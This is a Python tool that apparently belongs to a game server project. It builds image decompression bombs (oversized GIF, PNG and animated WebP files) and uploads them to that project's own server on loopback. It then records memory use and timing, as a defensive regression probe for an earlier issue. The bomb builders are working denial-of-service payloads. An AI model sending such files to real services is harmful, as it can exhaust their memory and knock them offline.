"""Attack probe: image decompression bombs uploaded to a real server on loopback.

Job: build the bombs (:func:`gif_bomb`, :func:`png_declaring`, :func:`webp_bomb`; the tests in
tests/test_chat_images.py use the same builders), start ``python -m worldserver run`` on
127.0.0.1 (free ports, a temporary data directory, a JSON stats line every second, any
``--set`` passed on), then

1. after 2 s of start-up, watch the idle server for ``--baseline`` seconds;
2. upload each bomb (and two ordinary images as a control) one after the other through
   ``POST /api/chat/images``, each from a fresh name, and record the status and code, the
   seconds the answer took, the server's resident memory after it and the largest resident
   memory of any of its child processes (the image workers) meanwhile;
3. upload ``--parallel`` copies of the 154-byte GIF of issue 8 at once (the attack sent six
   during a game) and record the same;

and print one JSON object: the figures per upload, the server's RSS at start, at its highest
(VmHWM) and at the end, and the worst tick lateness p99 of the stats lines before and during
the uploads. docs/reliability.md quotes a run. ``--set chat.image_max_pixels=200000000``
lifts the pixel budget to what it was before issue 8, so that the bombs reach a worker and
meet its memory limit instead.

Run from the repository root: ``.venv/bin/python tools/attack/image_bomb.py``.

Must not: reach any address but 127.0.0.1, leave the server running (it is terminated, then
killed), or wait without a deadline.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import secrets
import struct
import sys
import tempfile
import threading
import time
import zlib
from pathlib import Path

DEADLINE = 120.0  # seconds any one phase may take

__all__ = ["bombs", "gif_bomb", "png_declaring", "webp_bomb"]


# -- the bombs ---------------------------------------------------------------------------------


def gif_bomb(canvas: tuple[int, int], frames: int, offset: tuple[int, int] = (0, 0)) -> bytes:
    """A GIF of ``frames`` 1x1 frames at ``offset`` on a ``canvas``: 23 bytes a frame.

    ``gif_bomb((6324, 6324), 5)`` is the 154-byte file of issue 8; ``gif_bomb((666, 1000),
    300)`` its 6.9 KB one."""
    out = bytearray(b"GIF89a")
    out += struct.pack("<HHBBB", *canvas, 0x80, 0, 0)  # a global colour table of 2 colours
    out += b"\x00\x00\x00\xff\xff\xff"
    out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"  # loop forever
    for _ in range(frames):
        out += b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
        out += b"\x2c" + struct.pack("<HHHHB", *offset, 1, 1, 0)  # image descriptor, 1x1
        out += b"\x02\x02\x44\x01\x00"  # LZW (code size 2): clear, index 0, end
    return bytes(out + b"\x3b")


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` x ``height`` and whose pixel data is empty."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b""))
            + chunk(b"IEND", b""))


def _riff_chunk(fourcc: bytes, body: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(body)) + body + (b"\0" if len(body) % 2 else b"")


def _u24(value: int) -> bytes:
    return value.to_bytes(3, "little")


def webp_bomb(canvas: tuple[int, int], frames: int) -> bytes:
    """An animated WebP: ``frames`` lossless 1x1 frames on a ``canvas``."""
    from PIL import Image

    still = io.BytesIO()
    Image.new("RGBA", (1, 1), (255, 0, 0, 255)).save(still, "WEBP", lossless=True)
    vp8l = still.getvalue()[12:]  # the one VP8L chunk of a simple file
    assert vp8l[:4] == b"VP8L"
    flags = 0x02 | 0x10  # animation, alpha
    vp8x = bytes([flags, 0, 0, 0]) + _u24(canvas[0] - 1) + _u24(canvas[1] - 1)
    body = b"WEBP" + _riff_chunk(b"VP8X", vp8x) + _riff_chunk(b"ANIM", struct.pack("<IH", 0, 0))
    frame = _u24(0) + _u24(0) + _u24(0) + _u24(0) + _u24(100) + b"\x00" + vp8l
    body += _riff_chunk(b"ANMF", frame) * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bombs() -> dict[str, bytes]:
    """The probes by name."""
    return {
        "gif_5_frames_6324x6324": gif_bomb((6324, 6324), 5),
        "gif_300_frames_666x1000": gif_bomb((666, 1000), 300),
        "gif_2000_frames_16x16": gif_bomb((16, 16), 2000),
        "gif_frame_off_canvas": gif_bomb((1, 1), 2, offset=(60000, 60000)),
        "png_100000x100000": png_declaring(100_000, 100_000),
        "webp_3_frames_6000x6000": webp_bomb((6000, 6000), 3),
        "webp_canvas_16384x16384": webp_bomb((16384, 16384), 1),
    }


def controls() -> dict[str, bytes]:
    """Ordinary images: a 2000x1500 JPEG photo-like gradient and a 50-frame 320x240 GIF."""
    from PIL import Image

    photo = Image.radial_gradient("L").resize((2000, 1500)).convert("RGB")
    out = io.BytesIO()
    photo.save(out, "JPEG", quality=85)
    frames = [Image.linear_gradient("L").rotate(i * 7).resize((320, 240)).convert("RGB") for i in range(50)]
    anim = io.BytesIO()
    frames[0].save(anim, "GIF", save_all=True, append_images=frames[1:], duration=40, loop=0)
    return {"control_jpeg_2000x1500": out.getvalue(), "control_gif_50_frames_320x240": anim.getvalue()}


# -- the server and its memory -----------------------------------------------------------------


def _status_kb(pid: int, field: str) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        return None
    return None


def _children(pid: int) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/stat", "rb") as f:
                stat = f.read()
        except OSError:
            continue
        fields = stat[stat.rfind(b")") + 2:].split()
        if len(fields) > 1 and int(fields[1]) == pid:
            found.append(int(name))
    return found


class ChildWatch:
    """Samples the resident memory of the server's image workers in a thread."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak_kb = 0
        self.seen: set[int] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> ChildWatch:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(5)

    def _run(self) -> None:
        while not self._stop.is_set():
            for child in _children(self.pid):
                try:  # an image worker; not a child still between fork and exec
                    with open(f"/proc/{child}/cmdline", "rb") as f:
                        if b"image_worker" not in f.read():
                            continue
                except OSError:
                    continue
                self.seen.add(child)
                self.peak_kb = max(self.peak_kb, _status_kb(child, "VmRSS") or 0)
            self._stop.wait(0.01)


def start_server(tmp: Path, sets: list[str]):
    """The server (a stats line a second, WebRTC off, its data and pictures under ``tmp``,
    then ``sets``) once it listens, under the tools' one runner."""
    from worldtools.server_process import ServerProcess

    server = ServerProcess(
        ["server.stats_interval=1", "webrtc.enabled=false", f"server.data_dir={tmp}/data",
         f"http.images_dir={tmp}/images", *sets],
        defaults=(), stop_timeout=10.0, scratch="image_bomb_",
    )  # fmt: skip
    try:
        server.wait_http(60.0)
    except BaseException:
        server.stop()
        raise
    return server


def _late_p99(server, since: float, until: float) -> float | None:
    """The worst ``late_ms_p99`` of the server's stats lines logged between two wall times."""
    values = []
    server.read()
    for record in server.stats_lines():
        if "late_ms_p99" not in record:
            continue
        ts = record.get("ts")
        try:
            when = float(ts) if not isinstance(ts, str) else _iso(ts)
        except ValueError:
            continue
        if since <= when <= until:
            values.append(float(record["late_ms_p99"]))
    return max(values) if values else None


def _iso(text: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


# -- the attack --------------------------------------------------------------------------------


async def _join(http, name: str) -> str:
    import trio

    while True:
        response = await http.post("/api/join", json={"name": name})
        if response.status_code == 429:
            await trio.sleep(float(response.headers.get("retry-after", "1")))
            continue
        response.raise_for_status()
        return response.json()["token"]


async def _upload(http, pid: int, name: str, data: bytes) -> dict:
    token = await _join(http, f"bomb{secrets.token_hex(4)}")
    with ChildWatch(pid) as watch:
        start = time.monotonic()
        response = await http.post("/api/chat/images", content=data,
                                   headers={"Authorization": f"Bearer {token}",
                                            "Content-Type": "application/octet-stream"})
        seconds = time.monotonic() - start
    try:
        body = response.json()
    except ValueError:
        body = {}
    return {
        "probe": name, "bytes": len(data), "status": response.status_code,
        "code": body.get("code", "stored" if response.status_code == 201 else None),
        "seconds": round(seconds, 3),
        "server_rss_mb_after": round((_status_kb(pid, "VmRSS") or 0) / 1024, 1),
        "worker_peak_rss_mb": round(watch.peak_kb / 1024, 1),
    }


async def attack(args) -> dict:
    import httpx
    import trio

    with tempfile.TemporaryDirectory(prefix="image-bomb-") as tmp_name:
        tmp = Path(tmp_name)
        server = start_server(tmp, args.set)
        try:
            pid = server.pid
            url = server.http
            await trio.sleep(2.0)  # start-up work out of the baseline
            rss_start = _status_kb(pid, "VmRSS")
            t0 = time.time()
            await trio.sleep(args.baseline)
            t1 = time.time()
            results = []
            async with httpx.AsyncClient(base_url=url, timeout=DEADLINE) as http:
                with trio.fail_after(DEADLINE * 4):
                    for name, data in {**controls(), **bombs()}.items():
                        results.append(await _upload(http, pid, name, data))
                    parallel = []

                    async def one(i: int) -> None:
                        row = await _upload(http, pid, f"parallel_{i}_gif_5_frames_6324x6324",
                                            gif_bomb((6324, 6324), 5))
                        parallel.append(row)

                    async with trio.open_nursery() as nursery:
                        for i in range(args.parallel):
                            nursery.start_soon(one, i)
                    results.extend(sorted(parallel, key=lambda r: r["probe"]))
            await trio.sleep(1.5)  # the stats line covering the last upload
            t2 = time.time()
            return {
                "settings": args.set,
                "server_rss_mb_start": round((rss_start or 0) / 1024, 1),
                "server_rss_mb_end": round((_status_kb(pid, "VmRSS") or 0) / 1024, 1),
                "server_rss_mb_peak": round((_status_kb(pid, "VmHWM") or 0) / 1024, 1),
                "late_ms_p99_idle": _late_p99(server, t0, t1),
                "late_ms_p99_during_uploads": _late_p99(server, t1, t2),
                "uploads": results,
                "server_alive": server.proc.poll() is None,
            }
        finally:
            server.stop()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--set", action="append", default=[], metavar="KEY=VALUE",
                        help="a server setting, e.g. chat.image_max_pixels=200000000")
    parser.add_argument("--parallel", type=int, default=6, help="concurrent copies of the 154-byte GIF")
    parser.add_argument("--baseline", type=float, default=3.0, help="idle seconds watched first")
    args = parser.parse_args(argv)
    import trio

    report = trio.run(attack, args)
    print(json.dumps(report, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
